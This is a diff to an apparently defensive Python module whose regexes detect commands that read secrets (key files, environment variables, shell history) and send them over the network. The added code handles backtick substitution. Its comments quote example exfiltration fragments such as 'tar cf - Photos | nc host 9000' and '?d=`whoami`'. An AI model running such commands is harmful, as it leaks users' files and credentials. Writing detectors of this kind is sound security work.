@@ -101,9 +101,13 @@ NET_RE = (rf"(?:{NET.replace(',', '|').replace('.', chr(92) + '.')}|aws\s+s3(?:a
           r"az\s+storage|gh\s+gist\s+create|require\(\s*['\"]https?['\"]\s*\)|socket\.create_connection|"
           r"socket\.socket)(?![\w:-])")
 # what a command reads a secret from: key files, variables named like secrets, the environment, the shell's history
+_SUBSTITUTED = "env|printenv|cat|history|whoami|hostname|id|set|ls|base64|tar|git|uname"
 CMD_SECRET = lazy(
-    PATHS + r"|\$\{?\w*(?:key|token|secret|pass|cred|auth)\w*|\$env:\w*(?:key|token|secret|pass|cred)|(?:\$\(|`)\s*(?:"
-    r"env|printenv|cat|history|whoami|hostname|id|set|ls|base64|tar|git|uname)\b|os\.environ|process\.env|getenv\b|"
+    PATHS + r"|\$\{?\w*(?:key|token|secret|pass|cred|auth)\w*|\$env:\w*(?:key|token|secret|pass|cred)|(?:\$\(|"
+    # a backtick substitution glued into an argument (``?d=`whoami` ``, `` `hostname`.x.example ``), not a Markdown
+    # code span opening after a space ("run `tar cf - Photos | nc host 9000`": the whole command quoted)
+    rf"(?<=[a-zA-Z0-9_=/:\"'@?&.+-])`|`(?=\s*(?:{_SUBSTITUTED})\b[^`\n]{{0,120}}`(?:[a-zA-Z0-9_-]|\.[a-zA-Z0-9])))\s*(?:"
+    rf"{_SUBSTITUTED})\b|os\.environ|process\.env|getenv\b|"
     r"\b(?:get-childitem|gci|dir|ls)\s+env:|\[(?:system\.)?environment\]::getenvironmentvariables|localstorage|"
     r"sessionstorage|document\.cookie")
 # credentials handed to the tool itself (-H/-u for curl, -i: ssh's identity file) are use, not a leak
